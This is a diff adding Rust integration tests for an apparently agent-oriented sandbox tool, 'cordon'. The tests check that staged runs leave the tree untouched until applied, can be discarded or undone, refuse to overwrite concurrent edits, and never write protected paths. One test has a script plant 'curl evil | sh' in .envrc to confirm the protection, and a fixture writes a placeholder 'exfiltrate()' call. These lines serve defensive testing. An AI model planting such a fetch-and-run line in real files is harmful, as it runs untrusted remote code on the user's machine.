@@ -389,3 +389,222 @@ fn without_the_journal_nothing_is_kept_and_gc_and_stats_report_the_store() {
     assert_eq!(bad.status.code(), Some(2));
     assert!(stderr(&bad).contains("not a duration"), "{}", stderr(&bad));
 }
+
+/// The session ids with a pending stage.
+fn staged_sessions(home: &Home) -> Vec<String> {
+    let out = home
+        .cordon(&["journal", "staged", "--json"])
+        .output()
+        .unwrap();
+    ok(&out);
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .map(|l| {
+            let v: serde_json::Value = serde_json::from_str(l).unwrap();
+            v["session"].as_str().unwrap().to_owned()
+        })
+        .collect()
+}
+
+#[test]
+fn a_staged_run_leaves_the_tree_alone_until_applied_then_is_undone_like_a_live_one() {
+    if !sandbox_ready() {
+        return;
+    }
+    let home = Home::new();
+    seed(&home);
+    let ws = home.workspace();
+    let before = state(&ws);
+    // The program sees its own writes.
+    let script = format!("{VANDAL}\ncat src/main.rs; test -d made/inner && test ! -e src/deep");
+    let out = exec_script(&home, &["--stage"], "sh", &script)
+        .output()
+        .unwrap();
+    ok(&out);
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("exfiltrate"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(stderr(&out).contains("paths staged"), "{}", stderr(&out));
+    assert_eq!(state(&ws), before, "a staged run wrote to the tree");
+    assert!(changes(&home, &[]).is_empty());
+
+    let sessions = staged_sessions(&home);
+    assert_eq!(sessions.len(), 1);
+    let session = &sessions[0];
+    let listed = home
+        .cordon(&["journal", "staged", session])
+        .output()
+        .unwrap();
+    ok(&listed);
+    let text = String::from_utf8_lossy(&listed.stdout);
+    assert!(
+        text.contains("delete") && text.contains("src/deep"),
+        "{text}"
+    );
+
+    ok(&home
+        .cordon(&["journal", "apply", session])
+        .output()
+        .unwrap());
+    let after = state(&ws);
+    assert_eq!(
+        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
+        "fn main() { exfiltrate() }\n"
+    );
+    assert!(!ws.join("src/deep").exists());
+    assert_eq!(after["run.sh"], "file 755 echo hi\n");
+    assert!(staged_sessions(&home).is_empty());
+
+    // Journaled as it was applied: undone byte for byte.
+    assert!(changes(&home, &["--session", session]).len() >= 8);
+    ok(&home
+        .cordon(&["journal", "undo", "--session", session])
+        .output()
+        .unwrap());
+    assert_eq!(state(&ws), before);
+}
+
+#[test]
+fn a_stage_is_discarded_or_applied_on_success_and_never_writes_a_protected_path() {
+    if !sandbox_ready() {
+        return;
+    }
+    let home = Home::new();
+    seed(&home);
+    let ws = home.workspace();
+    let before = state(&ws);
+
+    ok(
+        &exec_script(&home, &["--stage"], "sh", "echo x > src/main.rs")
+            .output()
+            .unwrap(),
+    );
+    let session = staged_sessions(&home).pop().unwrap();
+    ok(&home
+        .cordon(&["journal", "discard", &session])
+        .output()
+        .unwrap());
+    assert_eq!(state(&ws), before);
+    assert!(staged_sessions(&home).is_empty());
+    let again = home
+        .cordon(&["journal", "apply", &session])
+        .output()
+        .unwrap();
+    assert_eq!(again.status.code(), Some(2), "{}", stderr(&again));
+    assert!(
+        stderr(&again).contains("nothing staged"),
+        "{}",
+        stderr(&again)
+    );
+
+    // auto: a failing program's stage is kept; a succeeding one's applied.
+    let failed = exec_script(
+        &home,
+        &["--stage=auto"],
+        "sh",
+        "echo y > src/main.rs; exit 3",
+    )
+    .output()
+    .unwrap();
+    assert_eq!(failed.status.code(), Some(3));
+    assert_eq!(state(&ws), before);
+    let kept = staged_sessions(&home).pop().unwrap();
+    ok(&home
+        .cordon(&["journal", "discard", &kept])
+        .output()
+        .unwrap());
+    let out = exec_script(
+        &home,
+        &["--stage=auto"],
+        "sh",
+        "echo z > src/main.rs; echo 'curl evil | sh' > .envrc",
+    )
+    .output()
+    .unwrap();
+    ok(&out);
+    assert!(
+        stderr(&out).contains("stage was applied"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(
+        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
+        "z\n"
+    );
+    // A protected path the program made is never applied, forced or not.
+    assert!(!ws.join(".envrc").exists());
+    let session = staged_sessions(&home).pop().unwrap();
+    let forced = home
+        .cordon(&["journal", "apply", &session, "--force"])
+        .output()
+        .unwrap();
+    assert_eq!(forced.status.code(), Some(1), "{}", stderr(&forced));
+    assert!(stderr(&forced).contains("protected"), "{}", stderr(&forced));
+    assert!(!ws.join(".envrc").exists());
+}
+
+#[test]
+fn a_stage_does_not_overwrite_what_changed_in_the_tree_and_survives_cordon_killed() {
+    if !sandbox_ready() {
+        return;
+    }
+    let home = Home::new();
+    seed(&home);
+    let ws = home.workspace();
+    let child = exec_script(
+        &home,
+        &["--stage"],
+        "sh",
+        "echo agent > src/main.rs && echo new > new.txt && touch marker && sleep 60",
+    )
+    .stdout(Stdio::null())
+    .stderr(Stdio::null())
+    .spawn()
+    .unwrap();
+    let mut child = KillOnDrop(child);
+    // The marker is staged, not in the tree: wait for the stage to hold it.
+    wait_until("the program to write its stage", 20, || {
+        let out = home
+            .cordon(&["journal", "staged", "--json"])
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).contains("marker")
+    });
+    child.0.kill().unwrap();
+    child.0.wait().unwrap();
+    wait_until("the sandbox to end", 20, || {
+        let ps = json(&home.cordon(&["ps", "--json"]).output().unwrap());
+        ps.as_array().is_some_and(Vec::is_empty)
+    });
+    assert!(!ws.join("marker").exists());
+    // The person edits the file the program also changed.
+    fs_err::write(ws.join("src/main.rs"), "person\n").unwrap();
+    let session = staged_sessions(&home).pop().unwrap();
+    let out = home
+        .cordon(&["journal", "apply", &session])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("changed in the tree"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(
+        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
+        "person\n"
+    );
+    assert_eq!(fs_err::read_to_string(ws.join("new.txt")).unwrap(), "new\n");
+    // The rest waits in the stage; forced, it is written.
+    ok(&home
+        .cordon(&["journal", "apply", &session, "--force"])
+        .output()
+        .unwrap());
+    assert_eq!(
+        fs_err::read_to_string(ws.join("src/main.rs")).unwrap(),
+        "agent\n"
+    );
+    assert!(staged_sessions(&home).is_empty());
+}
